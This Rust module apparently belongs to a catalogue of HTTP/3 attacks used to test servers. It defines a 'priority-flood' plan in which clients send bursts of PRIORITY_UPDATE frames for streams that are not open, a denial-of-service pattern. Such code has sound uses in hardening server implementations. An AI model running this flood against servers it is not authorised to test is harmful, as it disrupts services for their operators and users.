//! PRIORITY_UPDATE frames for requests that are never sent.

use crate::attack::{Plan, Victim};
use crate::http;

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "priority-flood",
    labels: &["A87"],
    summary: "PRIORITY_UPDATE frames for streams that are not open",
    victim: Victim::Server,
    make: || Box::new(priority_flood()),
};

fn priority_flood() -> Crowd {
    Crowd::of_clients(2, |connection, progress, _| {
        let mut bytes = Vec::new();
        for _ in 0..FRAMES {
            progress.streams += 1;
            let mut payload = Vec::new();
            crate::put_varint(&mut payload, 4 * (progress.streams % STREAMS));
            payload.extend_from_slice(b"u=1,i");
            bytes.extend(http::frame(http::PRIORITY_UPDATE, &payload));
        }
        progress.push_control(connection, &bytes);
    })
}

/// Frames in one packet.
const FRAMES: usize = 80;

/// The number of prioritized streams, within the peer's limit.
const STREAMS: u64 = 100;
